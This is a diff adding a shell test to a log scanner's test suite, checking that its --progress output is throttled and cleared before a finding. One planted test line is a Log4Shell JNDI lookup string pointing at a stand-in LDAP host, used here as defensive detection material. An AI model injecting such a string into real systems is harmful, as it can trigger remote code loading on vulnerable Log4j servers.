@@ -41,6 +41,28 @@ if command -v script >/dev/null; then
 else
   ok "script(1) not installed: terminal case skipped"
 fi
+# The progress line: throttled, and erased before a finding on the same
+# terminal (it was redrawn per file and the first finding glued to it).
+mkdir -p many
+for i in $(seq 1 1500); do echo "plain line $i" > many/f$i.log; done
+printf '%s\n' '${jndi:ldap://progress.example/a}' > many/f750.log
+"$DEFUSE" logs --progress -j1 many > /dev/null 2> err.txt
+n=$(grep -o 'files,' err.txt | wc -l)
+[ "$n" -le 4 ] && ok "--progress on a pipe: $n lines (at most one a second)" \
+  || fail "--progress on a pipe drew $n lines"
+if command -v script >/dev/null; then
+  timeout 20 script -qec "$DEFUSE logs --progress -j1 many" /dev/null < /dev/null > tty.txt 2>&1
+  python3 - <<'PY' && ok "--progress on a terminal: erased before a finding, throttled" \
+    || fail "--progress on a terminal"
+t = open("tty.txt", encoding="latin-1").read()
+line = [l for l in t.split("\n") if "jndi" in l]
+assert line, t[-300:]
+import re
+shown = re.sub("\033\\[[0-9;]*m", "", line[0].replace("\r", "").split("\033[K")[-1])
+assert shown.startswith("many/f750.log:1: jndi"), repr(line[0][-200:])
+assert t.count("files,") <= 40, t.count("files,")
+PY
+fi
 "$DEFUSE" logs --color=always hit.log > out.txt
 grep -q $'\033\[' out.txt && ok "--color=always colours" || fail "--color=always"
 NO_COLOR=1 "$DEFUSE" logs hit.log > out.txt
